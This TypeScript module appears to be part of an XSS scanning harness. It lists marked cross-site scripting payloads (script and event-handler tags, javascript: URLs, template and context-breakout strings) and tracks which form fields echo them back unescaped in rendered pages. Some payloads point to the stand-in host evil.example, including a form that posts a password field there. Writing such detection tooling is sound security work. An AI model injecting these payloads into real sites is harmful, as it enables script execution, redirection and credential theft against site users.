/**
 * Texts that become scripts, requests or markup wherever a page or its scripts treat them as more than text.
 * Each carries a mark of its origin; markup carries `data-xss`, so that it is found in a page even if the
 * policy stopped it.
 */
const payloads: readonly ((mark: string) => string)[] = [
  (mark) => `<script data-xss>__xss(${mark})</script>`,
  (mark) => `<img data-xss src=/xss-probe onerror=__xss(${mark})>`,
  (mark) => `"><svg data-xss onload=__xss(${mark})>`,
  (mark) => `'><b data-xss autofocus tabindex=1 onfocus=__xss(${mark})>`,
  (mark) => `" data-xss="${mark}" autofocus onfocus="__xss(${mark})`,
  (mark) => `' data-xss='${mark}' onpointerenter='__xss(${mark})`,
  (mark) => `</title></textarea></script></style><b data-xss>${mark}</b>`,
  (mark) => `<a data-xss href=javascript:__xss(${mark})>${mark}</a>`,
  (mark) => `javascript:__xss(${mark})//`,
  (mark) => `JaVaScRiPt:__xss(${mark})//`,
  (mark) => `data:text/html,<script data-xss>__xss(${mark})</script>`,
  (mark) => `<iframe data-xss srcdoc="<script>parent.__xss(${mark})</script>">`,
  (mark) => `<b data-xss hx-get=/xss-probe hx-trigger=load hx-on:load=__xss(${mark})>`,
  (mark) => `"data-xss hx-get="/xss-probe?${mark}" hx-trigger="load`,
  (mark) => `<base data-xss href=//evil.example/${mark}/>`,
  (mark) => `<meta data-xss http-equiv=refresh content="0;url=//evil.example/${mark}">`,
  (mark) => `<style data-xss>@import"//evil.example/${mark}"</style>`,
  (mark) => `--><img data-xss src=//evil.example/${mark}><!--`,
  (mark) => `\${__xss(${mark})}{{__xss(${mark})}}<%=__xss(${mark})%>`,
  (mark) => `&lt;img data-xss src=/xss-probe onerror=__xss(${mark})&gt;`,
  (mark) => `<form data-xss action=//evil.example/${mark}><input name=password>`,
  (mark) => `<math><mtext><style><img data-xss src=/xss-probe onerror=__xss(${mark})>`,
  (mark) => `";__xss(${mark});//\\";__xss(${mark})//`,
  (mark) => `]]><object data-xss data=/xss-probe?${mark}></object>`,
  (mark) => `<link data-xss rel=stylesheet href=/xss-probe?${mark}>`,
  (mark) => `//evil.example/${mark}/..;/"><i data-xss>`,
];

export const payloadCount = payloads.length;

/**
 * Becomes markup in whatever holds it: in a text, however soon that is cut off, and out of a value in quotes, a title, a
 * field, a choice, a script or a comment.
 */
const breakingOut = (mark: string) =>
  `<b data-xss>'"--></title></textarea></select></script></style><b data-xss>${mark}</b>`;

/** Where a text is taken only if it has this shape, the texts of it that fit. */
export type Room = { readonly longest?: number; readonly shape?: RegExp };

type Planted = { readonly field: string; readonly text: string };

const marks = /(?<!\d)9\d{8}(?!\d)/g;

/** Which text was put where, and which of them were read in a page again. */
export class Plants {
  readonly #planted = new Map<string, Planted>();
  readonly #fields = new Map<string, number>();
  readonly #texts = new Set<string>();
  #next: number;

  readonly #firstMark: number;

  /**
   * @param series a digit of its own, so that no two have the same marks
   * @param first the text to begin with; from there they are used in turn
   */
  constructor(series: number, first: number) {
    this.#firstMark = 900_000_000 + series * 10_000_000;
    this.#next = first;
  }

  /** The next text for a field. */
  text(field: string, { longest = 100, shape = /^/ }: Room = {}): string {
    for (let turn = 0; turn < payloads.length; turn += 1) {
      const mark = this.#nextMark();
      const text = payloads[(this.#next + turn) % payloads.length]?.(mark) ?? "";
      if (text.length > longest || !shape.test(text)) continue;
      this.#next += turn + 1;
      return this.#plant(mark, field, text);
    }
    throw new Error(`no text fits ${field}`);
  }

  /**
   * The next text, with one before it that is visible wherever it is treated as markup: a field may be used
   * only once.
   */
  asMarkup(field: string): string {
    const mark = this.#nextMark();
    return this.#plant(mark, field, breakingOut(mark)) + this.text(field);
  }

  /** The next text, with one before it that is visible wherever it is treated as an address. */
  asAddress(field: string): string {
    const mark = this.#nextMark();
    return this.#plant(mark, field, `javascript:__xss(${mark})//`) + this.text(field);
  }

  #nextMark(): string {
    return String(this.#firstMark + this.#planted.size);
  }

  #plant(mark: string, field: string, text: string): string {
    this.#planted.set(mark, { field, text });
    if (!this.#fields.has(field)) this.#fields.set(field, 0);
    return text;
  }

  /** Records which of them are in what a page shows: complete, as text or as an attribute's value. */
  read(shown: string): void {
    for (const [mark] of shown.matchAll(marks)) {
      const planted = this.#planted.get(mark);
      if (planted === undefined || this.#texts.has(mark) || !shown.includes(planted.text)) continue;
      this.#texts.add(mark);
      this.#fields.set(planted.field, (this.#fields.get(planted.field) ?? 0) + 1);
    }
  }

  /** Whose text it is that was found where it should not be. */
  fieldsIn(found: string): string {
    const fields = [...found.matchAll(marks)].flatMap(([mark]) => this.#planted.get(mark)?.field ?? []);
    return [...new Set(fields)].join(", ") || "nobody knows what";
  }

  get seen(): number {
    return this.#texts.size;
  }

  get fields(): number {
    return this.#fields.size;
  }

  /** Fields of which no text has been read anywhere: nothing is known of these. */
  unseen(): string[] {
    return [...this.#fields].flatMap(([field, count]) => (count === 0 ? [field] : []));
  }
}
